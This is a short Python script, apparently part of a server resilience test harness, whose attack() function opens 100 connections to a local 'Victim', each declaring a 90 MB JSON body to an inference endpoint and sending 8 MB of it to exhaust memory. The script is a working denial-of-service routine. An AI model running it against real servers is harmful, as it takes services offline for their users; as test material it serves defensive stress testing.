"""A hundred callers who say that a large body comes, send the beginning of it, and stay."""

from __future__ import annotations

import time
from contextlib import ExitStack, closing, suppress

from raw_http import plugged
from victim import Victim

HEAD = (
    b"POST /_inference/neighbour HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    b"Content-Length: 90000000\r\n\r\n"
)
BEGINNING = 8_000_000  # bytes; all of them together are too much
SECONDS = 1.0  # for which they stay


def attack(victim: Victim) -> None:
    with ExitStack() as lines:
        for _ in range(100):
            line = lines.enter_context(closing(plugged(victim.url)))
            with suppress(OSError):  # it was refused
                line.sendall(HEAD + b'{"input": "' + b"a" * BEGINNING)
        time.sleep(SECONDS)
